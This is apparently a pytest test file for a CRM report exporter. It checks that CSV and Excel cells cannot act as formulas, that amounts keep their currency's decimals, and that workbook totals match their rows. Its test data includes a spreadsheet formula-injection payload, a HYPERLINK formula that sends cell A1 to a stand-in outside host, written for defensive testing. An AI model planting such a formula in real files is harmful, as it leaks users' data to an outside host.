"""Files for a spreadsheet: no text acts as a formula, amounts are numbers, everything is in them.

Tried by taking the protection away: no apostrophe (..._is_a_text_in_csv), formulas allowed in the workbook, and cells
not marked as texts (..._is_a_text_in_a_workbook), two decimals for every currency (amounts_have_the_decimals...).
"""

import csv as standard
import io
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crmerp_assets.reports import TABLES
from crmerp_assets.reports.export import csv, workbook
from crmerp_assets_tests.reports.rows import deal, ordered, report

ATTACK = '=HYPERLINK("http://elsewhere.example/?x="&A1,"open")'
CELLS = ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", ATTACK]


def read(content: bytes) -> list[dict[str, str]]:
    return list(standard.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet(content: bytes, name: str) -> list[dict[str, Any]]:
    rows = openpyxl.load_workbook(io.BytesIO(content))[name].iter_rows()
    head = [cell.value for cell in next(rows)]
    return [dict(zip(head, row, strict=True)) for row in rows]


@pytest.mark.parametrize("text", CELLS)
def test_a_text_that_begins_like_a_formula_is_a_text_in_csv(text: str) -> None:
    (row,) = read(csv(report([deal(name=text)]).deals))
    assert row["name"] == f"'{text}"


@pytest.mark.parametrize("text", CELLS)
def test_a_text_that_begins_like_a_formula_is_a_text_in_a_workbook(text: str) -> None:
    (row,) = sheet(workbook(report([deal(name=text)])), "deals")
    assert row["name"].data_type == "s"
    assert row["name"].value.replace("_x000D_", "\r").strip() == text.strip()
    assert row["name"].quotePrefix, "it stays a text when somebody edits it"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12))
def test_no_text_in_csv_can_begin_a_formula_and_none_is_lost(text: str) -> None:
    text = text.replace("\x00", "")
    (row,) = read(csv(pl.DataFrame({"name": [text], "n": [1]})))
    assert row["name"] in (text, f"'{text}")
    assert row["name"].lstrip()[:1] not in ("=", "+", "-", "@")
    assert row["name"][:1] not in ("\t", "\r", "\n")


def test_amounts_have_the_decimals_of_their_currency_and_negative_ones_stay_numbers() -> None:
    amounts = {"USD": "-100.5", "JPY": "1500", "KWD": "1.25", "EUR": "2.125"}
    result = report([ordered(code, currency=code, amount=Decimal(amount)) for code, amount in amounts.items()])
    told = {row["currency"]: row["amount"] for row in read(csv(result.deals))}
    assert told == {"USD": "-100.50", "JPY": "1500", "KWD": "1.250", "EUR": "2.125"}
    cells = {row["currency"].value: row["amount"] for row in sheet(workbook(result), "deals")}
    assert {code: cell.value for code, cell in cells.items()} == {code: float(a) for code, a in amounts.items()}
    formats = {code: cell.number_format for code, cell in cells.items()}
    assert formats == {"USD": "#,##0.00", "JPY": "#,##0", "KWD": "#,##0.000", "EUR": "#,##0.00"}


def test_the_workbook_has_every_table_and_its_totals_are_the_sum_of_its_rows() -> None:
    content = workbook(report([deal("a"), ordered("b", amount=Decimal("100.01")), deal("c", currency="EUR")]))
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["summary", *TABLES]
    rows, totals = sheet(content, "deals"), sheet(content, "money")
    for total in totals:
        code = total["currency"].value
        won = sum(Decimal(str(row["amount"].value)) for row in rows if row["currency"].value == code)
        assert Decimal(str(total["won_amount"].value)) == won
    assert rows[0]["close_date"].value.date() == date(2026, 11, 5)


def test_a_long_table_is_left_to_its_csv_file_and_the_summary_says_so() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(report([deal("a"), deal("b")]), most_rows=1)))
    assert "deals" not in book.sheetnames
    assert "money" in book.sheetnames
    assert book["summary"]["B5"].value == "breaks.csv, deals.csv"
